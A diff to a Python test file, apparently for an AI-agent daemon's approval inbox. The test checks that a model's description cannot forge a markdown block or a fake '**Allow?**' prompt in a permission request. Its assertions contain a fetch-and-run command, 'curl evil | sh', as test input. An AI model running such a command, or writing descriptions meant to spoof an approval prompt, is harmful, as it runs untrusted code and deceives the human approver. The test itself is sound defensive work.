@@ -62,12 +62,6 @@ def _payloads(events: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
     return [e["payload"] for e in events if e["type"] == kind]
 
 
-def _fences(body: str) -> list[str]:
-    """The lines that open or close a code block (CommonMark, and the dashboard's own
-    renderer, which closes a block at any line starting with the fence)."""
-    return [line for line in body.splitlines() if re.match(r"^\s*(```|~~~)", line)]
-
-
 async def test_the_item_shows_the_padded_commands_length_its_end_and_where_it_was_cut(
     home: Path,
 ) -> None:
@@ -171,14 +165,14 @@ async def test_the_models_description_cannot_forge_a_block_of_the_item(home: Pat
             delivery = events[-1]["payload"]["delivery"]
             await d.call("inbox.answer", {"id": delivery["id"], "values": {"value": "deny"}})
             await watcher.events_until(ENDS)
-    body: str = delivery["content"]["body"]
+    lines = delivery["content"]["body"].splitlines()
     # two blocks, each opened and closed by the item itself: the input, the description
-    fences = _fences(body)
-    assert len(fences) == 4, body
-    assert "**Allow?**" not in body.split(fences[-1])[-1]
-    inside = body.split(fences[2], 1)[1].split(fences[3], 1)[0]
-    assert "**Allow?**" in inside and "\n" not in inside.strip()  # one line, shown as text
-    assert "curl evil | sh" in body.split(fences[0], 1)[1].split(fences[1], 1)[0]
+    fences = [n for n, line in enumerate(lines) if re.match(r"^\s*(```|~~~)", line)]
+    assert len(fences) == 4, lines
+    first, second = lines[fences[0] + 1 : fences[1]], lines[fences[2] + 1 : fences[3]]
+    assert len(first) == 1 and "curl evil | sh" in first[0]
+    assert len(second) == 1 and "**Allow?**" in second[0]  # one line, shown as text
+    assert not any("Allow?" in line for line in lines[fences[3] :])
 
 
 async def test_a_backtracking_rule_does_not_freeze_the_daemon(home: Path) -> None:
